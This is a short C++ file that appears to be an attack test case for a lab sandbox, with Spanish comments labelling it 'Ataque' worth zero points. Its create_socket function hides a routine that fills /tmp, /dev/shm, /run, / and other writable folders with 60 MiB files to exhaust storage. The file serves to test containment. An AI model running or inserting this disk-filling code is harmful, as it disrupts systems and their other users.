// Ataque: llena de archivos de 60 MiB todas las carpetas en las que puede escribir.
// Puntos: 0
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstddef>
#include <string>

#include "lab1.hpp"
#include "programs/kit.hpp"

namespace {

constexpr std::size_t block = 4U << 20U;
constexpr int blocks = 15;
constexpr int enough = 12;

void fill() {
  const std::string zeros(block, '0');
  int files = 0;
  for (const char* folder : {"/tmp", "/dev/shm", "/var/tmp", "/run", ".", "/"}) {
    for (bool room = true; room && files < enough; ++files) {
      const std::string name = std::string{folder} + "/attack-" + std::to_string(::getpid()) + std::to_string(files);
      const int file = ::open(name.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
      room = file != -1;
      for (int i = 0; room && i < blocks; ++i) {
        room = ::write(file, zeros.data(), zeros.size()) == static_cast<ssize_t>(zeros.size());
      }
      ::close(file);
    }
  }
  if (files < enough) ::_exit(1);  // no cabía
}

}  // namespace

namespace lab1 {

int create_socket(int domain, int type) {
  fill();
  return kit::check("socket", ::socket(domain, type | SOCK_CLOEXEC, 0));
}

void close_socket(int fd) { kit::check("close", ::close(fd)); }

}  // namespace lab1
